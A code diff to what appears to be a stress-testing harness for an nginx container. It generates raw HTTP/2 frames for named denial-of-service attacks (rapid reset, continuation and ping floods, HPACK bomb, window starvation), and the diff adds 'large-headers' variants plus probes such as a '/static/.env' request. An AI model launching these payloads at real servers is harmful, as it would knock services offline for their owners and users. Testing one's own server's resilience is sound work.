@@ -15,7 +15,7 @@ import struct
 import time
 from collections.abc import Callable, Iterator
 from functools import partial
-from itertools import count, islice, repeat
+from itertools import count, cycle, islice, repeat
 
 from hpack import Encoder  # type: ignore[import-untyped, unused-ignore]
 
@@ -23,6 +23,7 @@ DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 2, 3, 4, 6,
 END_STREAM, END_HEADERS, INITIAL_WINDOW = 1, 4, 4
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 STREAMS = 128  # at a time; nginx's own limit
+ALLOWED = 32  # the image's limit
 BATCH = 1 << 15  # bytes of a connection at a time
 
 
@@ -68,6 +69,14 @@ def hpack_bomb() -> Iterator[bytes]:
     yield from (frame(HEADERS, END_HEADERS | END_STREAM, n, again) for n in count(3, 2))
 
 
+def large_headers(*heads: bytes) -> Iterator[bytes]:
+    """120 KB of headers on each stream, a byte for each copy of a field; no response is taken."""
+    yield frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 0))
+    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, head() + b"\x40\x01x" + value(4000))
+    for n, asked in zip(range(3, 2 * ALLOWED, 2), cycle(heads)):
+        yield frame(HEADERS, END_HEADERS | END_STREAM, n, asked + b"\xbe" * 30)
+
+
 def without_end(first: bytes, then: bytes) -> Iterator[bytes]:
     yield first
     yield from repeat(then)
@@ -82,6 +91,15 @@ def priority() -> Iterator[bytes]:
     return (frame(PRIORITY, 0, n, struct.pack(">IB", max(n - 2, 0), 255)) for n in count(1, 2))
 
 
+# What nginx refuses before it counts requests.
+REFUSED = (
+    head("//a"),
+    head("/up"),
+    head("/static/.env"),
+    head("/.docker-flask/html"),
+    head("/", "POST") + b"\x10\x0econtent-length\x0a9999999999",
+)
+
 ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
     "rapid-reset": rapid_reset,
     "continuation": partial(continuation, b"\x10\x01x" + value(4000)),
@@ -93,6 +111,8 @@ ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
     "ping": lambda: repeat(frame(PING, 0, 0, bytes(8))),
     "priority": priority,
     "hpack-bomb": hpack_bomb,
+    "large-headers": partial(large_headers, head()),
+    "large-headers-refused": partial(large_headers, *REFUSED),
     "no-window": partial(no_window, "/"),
     "no-window-static": partial(no_window, "/static/large.bin"),
     "get-without-end": partial(requests, end=0),
